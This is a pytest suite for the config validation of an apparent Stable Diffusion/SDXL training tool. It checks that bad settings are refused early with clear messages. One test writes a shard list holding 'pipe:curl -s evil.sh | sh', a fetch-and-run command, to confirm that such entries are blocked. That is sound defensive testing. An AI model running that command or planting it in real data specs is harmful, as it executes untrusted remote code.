"""A table of bad configs: each is refused by validation, before any process group starts or
torch is imported, with a message naming the field."""

import json
import os
import shutil
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from sd_train.config import MODEL_SUBFOLDERS, ConfigError
from sd_train.entry import validated_config
from sd_train.preflight import preflight
from sd_train.run_lock import OutputDirLock

ASSETS = Path(__file__).resolve().parents[1] / "assets"
REPO = Path(__file__).resolve().parents[2]
# A diffusers VAE config as SD's: four blocks, so a downsampling factor of 8.
SD_VAE_CONFIG = '{"_class_name": "AutoencoderKL", "block_out_channels": [128, 256, 512, 512]}'


@pytest.fixture(scope="module")
def good(tmp_path_factory):
    """Overrides that make configs/test.yaml valid with no real model: validation only needs the
    folder layout and the shards to exist."""
    root = tmp_path_factory.mktemp("cfg")
    model = root / "model"
    for sub in MODEL_SUBFOLDERS:
        (model / sub).mkdir(parents=True)
    (model / "vae" / "config.json").write_text(SD_VAE_CONFIG)
    shards = root / "shards"
    shards.mkdir()
    tars = sorted(ASSETS.glob("*.tar"))
    for i, t in enumerate(tars[:4]):
        shutil.copy(t, shards / f"s-{i:06d}.tar")
    return root, [
        f"model.pretrained_path={model}",
        f"data.train_shards={shards}/s-{{000000..000003}}.tar",
        f"data.val_shards={shards}/s-000000.tar",
        f"output_dir={root}/run",
    ]


BAD = [
    (["global_batch_size=10"], "global_batch_size=10 is not divisible by"),
    (["ema.decay=1.5"], r"ema.decay=1.5 must be in \[0, 1\)"),
    (
        ["ema.decay=0.9999", "ema.step_start_ema=27572", "max_steps=28572", "ema.tolerance=0.01"],
        r"90\.5% of the final EMA would come from pre-window weights",
    ),
    (
        ["checkpoint.resume=/no/such/step_00000010"],
        "checkpoint.resume='/no/such/step_00000010': no such checkpoint folder",
    ),
    (["checkpoint.load_step=999"], "checkpoint.load_step=999: no complete checkpoint"),
    (["data.train_shards=/nowhere/x-{000000..000009}.tar"], "matches no shard"),
    (["data.resolution=30"], "data.resolution=30 must be a multiple of 8, the downsampling factor of the VAE"),
    (["data.resolution=0"], "data.resolution=0 must be positive"),
    (["optim.lrr=1"], "unknown config key optim.lrr"),
    (["checkpoint.keep_last_k=1"], "checkpoint.keep_last_k=1"),
    (["checkpoint.every_steps=0"], "checkpoint.every_steps=0 must be positive"),
    (["metrics.log_every=-5"], "metrics.log_every=-5 must be positive"),
    (["data.num_workers=8"], r"fewer than world_size x data.num_workers"),
    (["data.filters=[original_width>=512, 'punsafe~0.1']"], r"data.filters: rule 'punsafe~0.1' is not FIELD<op>NUMBER"),
    (["data.filters=['aesthetic>=high']"], r"data.filters: rule 'aesthetic>=high' compares with 'high', which is not"),
    (["data.filter_missing=skip"], r"data.filter_missing='skip' is not one of \['keep', 'drop'\]"),
    (["objective.caption_dropout=1.0"], r"objective.caption_dropout=1.0 must be in \[0, 1\)"),
    (["model.pretrained_path=/no/model"], "model.pretrained_path='/no/model': no such folder"),
    (["dist.strategy=deepspeed", "checkpoint.async_save=true"], "async_save=true is FSDP2-only"),
    (["dist.strategy=deepspeed", "dist.zero_stage=1"], "dist.zero_stage=1: sd-train supports ZeRO stage 2 or 3"),
    (["dist.zero_stage=3"], r"dist.zero_stage=3 applies only to dist.strategy=deepspeed \(now fsdp2\)"),
    (["ema.posthoc.sigma_rels=[0.05,0.3]"], r"ema.posthoc.sigma_rels: 0.3 must be in \(0, 0.2887\)"),
    (["ema.posthoc.sigma_rels=[0.1]", "ema.posthoc.snapshot_every=0"], "ema.posthoc.snapshot_every=0 must be positive"),
    (["ema.posthoc.sigma_rels=[0.1]", "ema.posthoc.step_start=12"], r"posthoc.step_start=12 must be in \[0, max"),
    (
        ["dist.strategy=deepspeed", "dist.zero_stage=2", "dist.param_dtype=bf16"],
        r"dist.param_dtype=bf16 under DeepSpeed is its bf16 mode, which sd-train runs with ZeRO-3 only",
    ),
    (["dist.strategy=deepspeed", "dist.reduce_dtype=bf16"], "dist.reduce_dtype=bf16 is an FSDP2 setting"),
    (["max_steps=ten"], "max_steps must be an integer"),
    (["eval.val_timesteps=[5, 1000]"], r"eval.val_timesteps=\[5, 1000\] must lie in \[0, 1000\)"),
    (["eval.num_val_samples=0"], r"eval.num_val_samples=0 must be positive: to turn the validation loss off set"),
    (["data.val_shards=pipe:cat v.tar"], r"data.val_shards='pipe:cat v.tar': the shard spec: .* is a `pipe:` URL"),
    (["checkpoint.every_minutes=-1"], r"checkpoint.every_minutes=-1.0 must be >= 0"),
    (["dist.reshard_after_forward=1.5"], "dist.reshard_after_forward must be bool or int, got 1.5"),
    (["dist.reshard_after_forward=1"], "dist.reshard_after_forward=1: an integer must be a group size of at least 2"),
    (["dist.reshard_after_forward=2"], "dist.reshard_after_forward=2 must divide the shard group size 1"),
    (
        ["dist.strategy=ddp", "dist.reshard_after_forward=2"],
        r"dist.reshard_after_forward=2 \(a group size\) applies to dist.strategy=fsdp2 only",
    ),
]


def test_good_config_passes(good):
    _, overrides = good
    validated_config(["--config", "configs/test.yaml", *overrides])


@pytest.mark.parametrize("stage", [2, 3])
def test_posthoc_ema_passes_under_deepspeed(good, stage):
    """Post-hoc EMA runs under both ZeRO stages (per partition under ZeRO-3, replicated under ZeRO-2)."""
    _, overrides = good
    extra = ["dist.strategy=deepspeed", f"dist.zero_stage={stage}", "ema.posthoc.sigma_rels=[0.05,0.1]"]
    cfg, _ = validated_config(["--config", "configs/test.yaml", *overrides, *extra])
    assert (cfg.dist.strategy, cfg.dist.zero_stage, cfg.ema.posthoc.sigma_rels) == ("deepspeed", stage, [0.05, 0.1])


def test_pipe_in_a_list_file_refused_unless_allowed(good):
    """A list file that names a `pipe:` URL is refused before anything starts, naming the file and
    the switch; with data.allow_pipe=true it is accepted (the command runs only when read)."""
    root, overrides = good
    listing = root / "shipped.txt"
    listing.write_text("".join(f"{root}/shards/s-{i:06d}.tar\n" for i in range(3)) + "pipe:curl -s evil.sh | sh\n")
    argv = ["--config", "configs/test.yaml", *overrides, f"data.train_shards={listing}"]
    with pytest.raises(ConfigError, match=rf"data.train_shards=.*the list file {listing}: 'pipe:curl.*allow_pipe=true"):
        validated_config(argv)
    cfg, _ = validated_config([*argv, "data.allow_pipe=true"])
    assert cfg.data.allow_pipe


@pytest.mark.parametrize("bad,match", BAD, ids=[b[0][0] for b in BAD])
def test_bad_config_refused(good, bad, match):
    _, overrides = good
    with pytest.raises(ConfigError, match=match):
        validated_config(["--config", "configs/test.yaml", *overrides, *bad])


LAUNCHED_ZERO3 = {"ACCELERATE_USE_DEEPSPEED": "true", "ACCELERATE_DEEPSPEED_ZERO_STAGE": "3"}


@pytest.mark.parametrize(
    "extra,match",
    [
        (
            ["dist.strategy=fsdp2"],
            r"dist.strategy=fsdp2 but `accelerate launch` was given a DeepSpeed config \(ZeRO stage 3\)",
        ),
        (["dist.zero_stage=2"], "dist.zero_stage=2 but the accelerate launch config says zero_stage 3"),
    ],
)
def test_launcher_disagreement_refused(good, monkeypatch, extra, match):
    """Under launch/accelerate/zero3.yaml a config that shards otherwise is a mistake: refused."""
    _, overrides = good
    for k, v in LAUNCHED_ZERO3.items():
        monkeypatch.setenv(k, v)
    with pytest.raises(ConfigError, match=match):
        validated_config(["--config", "configs/test.yaml", *overrides, *extra])


def test_strategy_auto_follows_the_launcher(good, monkeypatch):
    _, overrides = good
    cfg, _ = validated_config(["--config", "configs/test.yaml", *overrides])
    assert (cfg.dist.strategy, cfg.dist.zero_stage) == ("fsdp2", None)
    for k, v in LAUNCHED_ZERO3.items():
        monkeypatch.setenv(k, v)
    cfg, _ = validated_config(["--config", "configs/test.yaml", *overrides])
    assert (cfg.dist.strategy, cfg.dist.zero_stage) == ("deepspeed", 3)
    cfg.validate(2)  # idempotent: a second validation keeps the resolved values
    assert (cfg.dist.strategy, cfg.dist.zero_stage) == ("deepspeed", 3)
    assert preflight(cfg, 1) == cfg, "a resolved config resolves to itself"


ENTRY = (
    "import sys; from sd_train.entry import main; rc = main(sys.argv[1:]); "
    "assert 'torch' not in sys.modules, 'validation imported torch'; sys.exit(rc)"
)
TRAIN = "import sys; from sd_train.entry import main; sys.exit(main(sys.argv[1:]))"  # on into training


def launch(code: str, *args: str, timeout: int = 60) -> subprocess.CompletedProcess:
    """`python -c CODE ARGS...` from the repository, its output captured as text."""
    return subprocess.run(
        [sys.executable, "-c", code, *args], cwd=REPO, capture_output=True, text=True, timeout=timeout
    )


def test_refused_before_torch_or_process_group(good):
    """The real entry point: exit code 2, the field in the message, and torch never imported."""
    _, overrides = good
    proc = launch(ENTRY, "--config", "configs/test.yaml", *overrides, "data.resolution=30")
    assert proc.returncode == 2, proc.stderr
    assert "config error: data.resolution=30" in proc.stderr


def test_yaml_syntax_error_refused(good, tmp_path):
    """A --config file that is not valid YAML is a config error like any other (exit 2, no
    traceback), naming the file and the line."""
    _, overrides = good
    broken = tmp_path / "broken.yaml"
    broken.write_text("max_steps: 12\noptim:\n  lr: 1e-3\n    warmup_steps: 2\n")
    proc = launch(ENTRY, "--config", str(broken), *overrides)
    assert proc.returncode == 2, proc.stderr
    assert f"config error: --config {broken}: YAML syntax error at line 4, column 17" in proc.stderr, proc.stderr
    assert "Traceback" not in proc.stderr


# The JSON files of an SDXL folder that the torch-free checks read, as SDXL base 1.0 has them.
SDXL_JSON = {
    "model_index.json": {"_class_name": "StableDiffusionXLPipeline"},
    "unet/config.json": {
        "addition_embed_type": "text_time",
        "addition_time_embed_dim": 256,
        "projection_class_embeddings_input_dim": 2816,
        "cross_attention_dim": 2048,
    },
    "text_encoder/config.json": {"hidden_size": 768},
    "text_encoder_2/config.json": {"hidden_size": 1280, "projection_dim": 1280},
}


def sdxl_folder(root: Path, drop: str = "", **unet: object) -> Path:
    """A folder with the layout and JSON of SDXL base (no weights), less `drop`, with `unet` changes."""
    model = root / f"sdxl-{drop or 'full'}-{len(unet)}"
    for sub in (*MODEL_SUBFOLDERS, "text_encoder_2", "tokenizer_2"):
        if sub != drop:
            (model / sub).mkdir(parents=True, exist_ok=True)
    (model / "vae" / "config.json").write_text(SD_VAE_CONFIG)
    for name, content in SDXL_JSON.items():
        if (model / name).parent.is_dir():
            (model / name).write_text(json.dumps(content | unet if name.startswith("unet") else content))
    return model


def test_sdxl_folder_trains_sdxl_with_its_defaults(good):
    """The folder decides: no flag. FSDP2 units default to each transformer block and resnet."""
    root, overrides = good
    model = sdxl_folder(root)
    cfg, _ = validated_config(["--config", "configs/test.yaml", *overrides, f"model.pretrained_path={model}"])
    assert cfg.dist.fsdp_units == "layers"
    sd, _ = validated_config(["--config", "configs/test.yaml", *overrides])
    assert sd.dist.fsdp_units == "blocks" and sd.model.vae_dtype == "auto"
    validated_config(["--config", "configs/test.yaml", *overrides, "model.vae_dtype=fp16"])  # SD's VAE: fine


@pytest.mark.parametrize(
    "drop,unet,extra,match",
    [
        ("text_encoder_2", {}, [], r"SDXL folder \(StableDiffusionXLPipeline\) that lacks \['text_encoder_2'\]"),
        ("tokenizer_2", {}, [], r"lacks \['tokenizer_2'\]"),
        ("", {"addition_embed_type": None}, [], "an SDXL folder whose unet/config.json has addition_embed_type=None"),
        ("", {"addition_embed_type": "text"}, [], "addition_embed_type='text'"),
        ("", {"cross_attention_dim": 1024}, [], "cross_attention_dim=1024 but the two text encoders' hidden sizes"),
        ("", {"projection_class_embeddings_input_dim": 2560}, [], "projection_class_embeddings_input_dim=2560"),
        ("", {}, ["model.vae_dtype=fp16"], "model.vae_dtype=fp16 with an SDXL folder: the SDXL VAE produces NaNs"),
        ("", {}, ["dist.strategy=ddp", "dist.fsdp_units=layers"], "dist.fsdp_units=layers applies to dist.strategy"),
    ],
    ids=[
        "no_text_encoder_2",
        "no_tokenizer_2",
        "no_text_time",
        "other_embed",
        "cross_dim",
        "add_dim",
        "vae_fp16",
        "ddp",
    ],
)
def test_bad_sdxl_folder_refused_naming_the_part(good, drop, unet, extra, match):
    root, overrides = good
    model = sdxl_folder(root, drop, **unet)
    with pytest.raises(ConfigError, match=match):
        validated_config(["--config", "configs/test.yaml", *overrides, f"model.pretrained_path={model}", *extra])


def test_sd_folder_with_an_sdxl_unet_refused(good):
    """An SD pipeline folder whose UNet wants SDXL's added conditioning: the encoders are missing."""
    root, overrides = good
    model = root / "sd-with-xl-unet"
    shutil.copytree(overrides[0].split("=", 1)[1], model)
    (model / "unet" / "config.json").write_text(json.dumps({"addition_embed_type": "text_time"}))
    with pytest.raises(ConfigError, match=r"addition_embed_type='text_time', which needs SDXL's pooled text embedding"):
        validated_config(["--config", "configs/test.yaml", *overrides, f"model.pretrained_path={model}"])


def test_bad_sdxl_folder_refused_before_torch(good):
    """Through the real entry point: exit 2, the missing part named, torch never imported."""
    root, overrides = good
    model = sdxl_folder(root, "tokenizer_2")
    proc = launch(ENTRY, "--config", "configs/test.yaml", *overrides, f"model.pretrained_path={model}")
    assert proc.returncode == 2, proc.stderr
    assert "lacks ['tokenizer_2']" in proc.stderr


def _tree(folder: Path) -> dict[str, tuple[int, int]]:
    return {str(p.relative_to(folder)): (p.stat().st_size, p.stat().st_mtime_ns) for p in folder.rglob("*")}


@pytest.mark.parametrize(
    "fmt,extra,said",
    [
        ("dcp", ["checkpoint.resume=none"], "checkpoint.resume=none but"),
        ("zero", [], "was written with dist.strategy=deepspeed but this run uses dist.strategy=fsdp2"),
        ("dcp", ["ema.posthoc.sigma_rels=[0.05]"], "was written without post-hoc EMA profiles"),
    ],
)
def test_refused_resume_writes_nothing(good, tmp_path, fmt, extra, said):
    """A resume the run cannot make is refused by the real entry point (exit 2) before anything is
    written: the earlier launch's config.yaml and every file of output_dir stay as they were."""
    _, overrides = good
    out = tmp_path / "run"
    step = out / "checkpoints" / "step_00000004"
    (step / "zero").mkdir(parents=True)
    (step / ".metadata").write_bytes(b"")
    state = {"step": 4, "world_size": 1, "format": fmt, "ema": {"open": False}}
    (step / "trainer_state.json").write_text(json.dumps(state))
    (out / "config.yaml").write_text("the earlier launch's config\n")
    before = _tree(out)
    proc = launch(ENTRY, "--config", "configs/test.yaml", *overrides, f"output_dir={out}", *extra)
    assert proc.returncode == 2 and said in proc.stderr, proc.stderr[-2000:]
    assert _tree(out) == before


def test_a_launch_on_a_locked_output_dir_is_refused_before_writing_anything(good, tmp_path):
    """A launch that passes every check but finds output_dir locked by another launch (this test
    process holds the lock) exits 2 naming the holder's host and pid, and writes nothing there: the
    lock comes before config.yaml and the rest (the real entry point, one rank)."""
    _, overrides = good
    out = tmp_path / "run"
    out.mkdir()
    (out / "config.yaml").write_text("the running launch's config\n")
    lock = OutputDirLock(out)
    assert lock.acquire() is None
    before = _tree(out)
    try:
        proc = launch(TRAIN, "--config", "configs/test.yaml", *overrides, f"output_dir={out}", timeout=120)
    finally:
        lock.release()
    holder = f"is in use by another launch (host {socket.gethostname()}, pid {os.getpid()},"
    assert proc.returncode == 2 and holder in proc.stderr, proc.stderr[-2000:]
    assert _tree(out) == before


@pytest.mark.parametrize("kind", ["raw", "ema"])
def test_export_at_end_over_a_folder_that_is_not_an_export_is_refused_before_training(good, tmp_path, kind):
    """The end-of-run export replaces only an earlier export: anything else in export/raw or
    export/ema is refused at the start, by name, not after the training it would end."""
    _, overrides = good
    folder = tmp_path / "run" / "export" / kind
    folder.mkdir(parents=True)
    (folder / "notes.txt").write_text("mine")
    args = ["--config", "configs/test.yaml", *overrides, f"output_dir={tmp_path / 'run'}", "export_at_end=true"]
    with pytest.raises(
        ConfigError, match=rf"export_at_end: .*export/{kind} is not an earlier export \(it holds notes.txt\)"
    ):
        validated_config(args)
    (folder / "notes.txt").unlink()  # empty: the export may go there
    validated_config(args)
